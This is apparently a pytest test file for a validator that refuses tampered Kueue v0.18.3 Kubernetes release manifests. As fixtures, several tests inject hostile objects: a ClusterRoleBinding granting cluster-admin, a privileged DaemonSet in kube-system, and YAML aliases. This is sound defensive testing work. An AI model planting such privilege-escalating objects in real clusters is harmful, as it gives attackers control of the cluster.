def test_hostile_manifest_is_refused_naming_the_object(change, expected):
    objects = release()
    change(objects)
    with pytest.raises(ManifestError) as info:
        prepare_manifest(objects, kueue(), "hostile.yaml")
    message = str(info.value)
    assert expected in message
    assert message.startswith("the Kueue manifest hostile.yaml is not a Kueue v0.18.3 release")
    assert "nothing was applied" in message


def test_every_problem_is_listed_at_once():
    objects = release()
    added(binding("ClusterRoleBinding", "kueue-admin", "ClusterRole", "cluster-admin"))(objects)
    added(daemonset("kube-system", privileged=True))(objects)
    added(queue_object("ClusterQueue"))(objects)
    refusals = check_release([Document(i, o) for i, o in enumerate(objects)], VERSION)
    assert [r.index for r in refusals] == [18, 19, 20]
    assert [r.object for r in refusals] == [
        "ClusterRoleBinding kueue-admin",
        "DaemonSet kube-system/node-agent",
        "ClusterQueue extra-clusterqueue",
    ]


def test_version_v0_1_0_with_a_v0_18_3_image_is_refused():
    with pytest.raises(ManifestError, match=r"its tag v0\.18\.3 is not kueue\.version v0\.1\.0"):
        prepare_manifest(release(), kueue(version="v0.1.0"))


def test_the_version_in_config_selects_the_image_it_accepts():
    objects = release()
    manager(objects)["image"] = "registry.k8s.io/kueue/kueue:v0.19.2"
    assert prepare_manifest(objects, kueue(version="v0.19.2")).version == "v0.19.2"


def test_document_indexes_count_empty_documents_as_in_the_file():
    # An empty document first: the 18 release objects are documents 1-18 of the file.
    text = "---\n---\n" + "---\n".join(yaml.safe_dump(o) for o in release())
    text += "---\n" + yaml.safe_dump(queue_object("ClusterQueue"))
    docs = parse_documents(text.encode(), "m.yaml")
    assert [d.index for d in docs] == list(range(1, 20))
    with pytest.raises(ManifestError, match=r"document 19: ClusterQueue extra-clusterqueue"):
        prepare_manifest(docs, kueue(), "m.yaml")


def test_yaml_aliases_are_refused():
    text = "---\n".join(yaml.safe_dump(o) for o in release())
    text += (
        "---\napiVersion: v1\nkind: ConfigMap\nmetadata: &m {name: a, namespace: kueue-system}\n"
    )
    text += "data: {x: *m}\n"
    with pytest.raises(ManifestError, match=r"document\(s\) 18 use YAML aliases"):
        parse_documents(text.encode(), "m.yaml")


def test_objects_are_matched_by_group_kind_namespace_and_name():
    objects = release()
    decoy = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": meta("kueue-manager-config", "default"),
    }
    objects.insert(0, decoy)
    found = find(objects, "", "ConfigMap", NS, "kueue-manager-config")
    assert found is not None
    assert found["metadata"]["namespace"] == NS
    assert find(objects, "apps", "ConfigMap", NS, "kueue-manager-config") is None


def test_the_stacks_config_reaches_the_real_configmap_not_a_same_named_secret():
    # A Secret named like the manager ConfigMap is a legal object of the namespace; the
    # stack's Configuration still goes to the ConfigMap only.
    objects = release()
    objects.insert(0, secret(NS) | {"metadata": meta("kueue-manager-config", NS)})
    prepared = prepare_manifest(objects, kueue(manager={"manageJobsWithoutQueueName": True}))
    cm = find(list(prepared.objects), "", "ConfigMap", NS, "kueue-manager-config")
    assert cm is not None
    assert "manageJobsWithoutQueueName: true" in cm["data"]["controller_manager_config.yaml"]
    assert "data" not in prepared.objects[0]


def test_a_feature_gate_set_twice_in_the_controller_flags_is_refused():
    objects = release()
    manager(objects)["args"] += ["--feature-gates=A=true,B=false", "--feature-gates=A=false"]
    with pytest.raises(ManifestError, match="feature gate\\(s\\) A are set more than once"):
        prepare_manifest(objects, kueue())


def test_empty_metadata_fields_in_the_controller_are_filled_not_crashed_on():
    objects = release()
    deployment = one(objects, "Deployment", "kueue-controller-manager")
    deployment["metadata"]["annotations"] = None  # `annotations:` with nothing under it
    deployment["spec"]["template"]["metadata"] = None
    prepared = prepare_manifest(objects, kueue(), verified_sha256="c" * 64)
    out = one(list(prepared.objects), "Deployment", "kueue-controller-manager")
    assert out["metadata"]["annotations"] == {keys.ANNOTATION_MANIFEST_SHA256: "c" * 64}
    assert keys.ANNOTATION_CONFIG_HASH in out["spec"]["template"]["metadata"]["annotations"]
